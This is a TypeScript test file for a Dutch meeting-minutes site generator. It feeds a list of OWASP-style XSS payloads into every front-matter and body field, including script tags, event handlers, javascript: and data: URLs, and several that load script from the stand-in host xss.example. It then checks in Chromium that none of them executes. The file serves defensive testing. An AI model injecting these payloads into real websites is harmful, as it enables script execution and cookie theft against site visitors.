import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { lrt, scratchWith } from '../helpers.js';
import { launchChromium } from './chromium.js';
import { serveStatic } from './serveStatic.js';

/**
 * No injected script runs. Payloads from the OWASP XSS filter-evasion cheat sheet (and Markdown's
 * own: javascript: links, data: URLs, remote images) go into every field of minutes, a status
 * update and a document that reaches the site. The site is built, served on 127.0.0.1 and every
 * page opened in Chromium, once under the site's own CSP and once with CSP bypassed (so the
 * escaping itself is tested, not only the policy): no dialog, no request to another host, no
 * live handler, script or frame in the DOM, and a CSP without unsafe-inline.
 */

const P = [
  `<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=//xss.example/.j>`,
  `<iframe src=http://xss.example/scriptlet.html <`,
  `\\";alert('XSS');//`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<LINK REL="stylesheet" HREF="http://xss.example/xss.css">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `"><img src=x onerror=alert(1)>`,
  `'-alert(1)-'`,
  `[klik hier](javascript:alert('XSS'))`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![plaatje](https://xss.example/pixel.png)`,
  `<https://xss.example/autolink>`,
  `{{constructor.constructor('alert(1)')()}}`,
];

/** YAML double-quoted: JSON strings are valid YAML. */
const q = (s: string) => JSON.stringify(s);
const DATE = '2024-06-11';

function sources(): Record<string, string> {
  const agendaPayloads = P.slice(0, 6);
  const fm = [
    '---',
    'orgaan: LRT',
    `datum: ${DATE}`,
    'status: concept',
    `voorzitter: ${q(`${P[6]} (SJenV)`)}`,
    'aanwezig:',
    ...P.slice(0, 12).map((p) => `  - ${q(`${p} (VNG)`)}`),
    `  - { naam: ${q(P[12]!)}, organisatie: DGM, openbaar: true, reden: toets van de weergave }`,
    'afwezig:',
    ...P.slice(12, 18).map((p) => `  - ${q(p)}`),
    'agenda:',
    ...agendaPayloads.map((p, i) => `  - ${q(`${i + 1}. ${p}`)}`),
    'stukken:',
    ...P.slice(18, 30).map((p) => `  - { titel: ${q(p)}, link: ${q(`https://www.rijksoverheid.nl/zoeken?q=${p}`)} }`),
    '---',
    '',
  ];
  const body: string[] = [];
  let id = 0;
  agendaPayloads.forEach((p, i) => {
    body.push(`## ${i + 1}. ${p}`, '');
    // Every payload once as an agreement, once as a plain bullet, spread over the agenda items.
    for (let k = i; k < P.length; k += agendaPayloads.length) {
      // Words around the payload: an agreement that is only markup has no text and is refused (block-empty).
      body.push(`- Afspraak: BZK meldt ${P[k]} vandaag.`, `  - id: lrt-${DATE}-${++id}`, '  - eigenaar: BZK', '  - termijn: eind juni');
      body.push(`- Besluit: ${P[(k + 7) % P.length]} wordt aangenomen.`, `  - id: lrt-${DATE}-${++id}`);
      body.push(`- ${P[(k + 3) % P.length]}`, '');
    }
    // And as raw HTML at the start of a line, where Markdown would pass it through as a block.
    body.push(P[i * 7 % P.length]!, '');
  });
  const minutes = fm.join('\n') + body.join('\n') + '\n';
  const update = [
    '---',
    `afspraak: lrt-${DATE}-1`,
    'datum: 2024-06-20',
    'status: loopt',
    `bron: ${q(P[30]!)}`,
    '---',
    '',
    ...P.slice(30, 45).map((p) => `${p}\n`),
  ].join('\n');
  const document = [
    '---',
    'soort: stuk',
    'id: brief-xss-2024',
    `titel: ${q(P[31]!)}`,
    'datum: 2024-06-15',
    `datering: ${q(P[32]!)}`,
    'afzenders: [JenV]',
    `geadresseerden: ${q(P[33]!)}`,
    `voert_uit: [lrt-${DATE}-3]`,
    '---',
    '',
    ...P.slice(34, 46).map((p) => `${p}\n`),
  ].join('\n');
  return {
    [`minutes/${DATE}-lrt.md`]: minutes,
    [`agreements/2024-06-20-lrt-${DATE}-1.md`]: update,
    'agreements/2024-06-brief-xss.md': document,
  };
}

const project = (files: Record<string, string>) => scratchWith(files, 'lrt-xss-');

/** What must not be in a rendered page: live handlers, scripts other than the site's own, frames, refreshes, javascript: targets. */
function liveMarkup(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const bad: string[] = [];
    const urlAttrs = /^(href|src|action|formaction|data|background|dynsrc|lowsrc|poster|xlink:href|srcdoc)$/i;
    for (const el of Array.from(document.querySelectorAll('*'))) {
      for (const a of Array.from(el.attributes)) {
        if (/^on/i.test(a.name)) bad.push(`${el.tagName} ${a.name}`);
        if (urlAttrs.test(a.name) && /^\s*(javascript|vbscript|data:text\/html)/i.test(a.value)) bad.push(`${el.tagName} ${a.name}=${a.value.slice(0, 40)}`);
      }
    }
    for (const s of Array.from(document.querySelectorAll('script'))) {
      if (!s.src || new URL(s.src).origin !== location.origin || s.textContent?.trim()) bad.push(`SCRIPT ${s.src || s.textContent?.slice(0, 40)}`);
    }
    for (const sel of ['iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'bgsound', 'meta[http-equiv="refresh" i]', 'input[type="image" i]', 'body style', 'svg[onload]'])
      for (const el of Array.from(document.querySelectorAll(sel))) bad.push(`${sel}: ${el.outerHTML.slice(0, 60)}`);
    return bad;
  });
}

describe('XSS payloads in every field that reaches the site', () => {
  let dir = '';
  let site = '';
  let url = '';
  let close: (() => Promise<void>) | undefined;
  let browser: Browser | undefined;
  let pages: string[] = [];

  beforeAll(async () => {
    dir = project(sources());
    const built = await lrt(['build', '--as-of', '2024-07-01', '-o', '_site'], dir);
    if (built.code !== 0) throw new Error(`lrt build mislukt:\n${built.err}`);
    site = path.join(dir, '_site');
    pages = readdirSync(site, { recursive: true })
      .map(String)
      .filter((f) => f.endsWith('.html'))
      .map((f) => '/' + f.split(path.sep).join('/').replace(/index\.html$/, ''));
    const server = await serveStatic(site);
    url = server.url;
    close = server.close;
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    await close?.();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('the payloads reached the register: every field is really exercised', () => {
    const register = readdirSync(site, { recursive: true }).map(String).find((f) => f.endsWith('.json') && f.includes('register'));
    expect(register, 'register JSON in the site').toBeDefined();
    const json = readFileSync(path.join(site, register!), 'utf8');
    expect(JSON.parse(json).agreements.length).toBeGreaterThanOrEqual(P.length * 2);
    expect(pages.length).toBeGreaterThan(P.length * 2);
  });

  it('the payloads are on the pages as text: shown, not run', async () => {
    const context = await browser!.newContext();
    const page = await context.newPage();
    await page.goto(`${url}/vergaderingen/lrt-${DATE}/`);
    // textContent: the attendees sit in a closed <details>, which innerText leaves out.
    const text = await page.evaluate(() => document.body.textContent ?? '');
    await context.close();
    for (const p of P.slice(0, 12)) expect(text).toContain(`${p} (VNG)`);
  });

  it('every page declares a CSP without unsafe-inline or unsafe-eval', () => {
    for (const p of pages) {
      const html = readFileSync(path.join(site, p, p.endsWith('/') ? 'index.html' : ''), 'utf8');
      const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/i.exec(html)?.[1];
      expect(csp, p).toBeDefined();
      expect(csp).toMatch(/script-src 'self'/);
      expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|unsafe-hashes/);
    }
  });

  for (const bypassCSP of [false, true]) {
    it(`no dialog, no request off 127.0.0.1, no live markup on any page (${bypassCSP ? 'CSP bypassed: the escaping alone' : 'under the site CSP'})`, async () => {
      const context: BrowserContext = await browser!.newContext({ bypassCSP, javaScriptEnabled: true });
      const dialogs: string[] = [];
      const offsite: string[] = [];
      context.on('request', (r) => {
        const u = new URL(r.url());
        if ((u.protocol === 'http:' || u.protocol === 'https:' || u.protocol === 'ws:') && u.hostname !== '127.0.0.1') offsite.push(r.url());
      });
      const page = await context.newPage();
      page.on('dialog', (d) => {
        dialogs.push(`${page.url()}: ${d.message()}`);
        void d.dismiss();
      });
      const live: string[] = [];
      const visit = async (target: string) => {
        await page.goto(url + target, { waitUntil: 'load' });
        // Hover everything once: handlers such as onmouseover only fire on the pointer.
        await page.evaluate(() => {
          for (const el of Array.from(document.querySelectorAll('body *'))) el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
        });
        for (const b of await liveMarkup(page)) live.push(`${target}: ${b}`);
      };
      for (const p of pages) await visit(p);
      // Search results are drawn by script from the index: search for words in the payloads.
      const search = pages.find((p) => p.includes('zoeken'));
      if (search) for (const term of ['alert', 'script', 'XSS', 'onerror', 'javascript']) await visit(`${search}?q=${encodeURIComponent(term)}`);
      await page.waitForTimeout(300);
      await context.close();
      expect(dialogs).toEqual([]);
      expect(offsite).toEqual([]);
      expect(live).toEqual([]);
    });
  }

  it('a payload as owner, or as a javascript: document link, stops the build: nothing is written', async () => {
    const files = sources();
    const name = `minutes/${DATE}-lrt.md`;
    for (const broken of [
      files[name]!.replace('  - eigenaar: BZK', `  - eigenaar: ${P[2]}`),
      files[name]!.replace('link: "https://www.rijksoverheid.nl/zoeken?q=', 'link: "javascript:alert(1)//'),
    ]) {
      const d = project({ ...files, [name]: broken });
      const r = await lrt(['build', '--as-of', '2024-07-01', '-o', '_site'], d);
      expect(r.code).toBe(1);
      expect(existsSync(path.join(d, '_site'))).toBe(false);
      rmSync(d, { recursive: true, force: true });
    }
  });
});
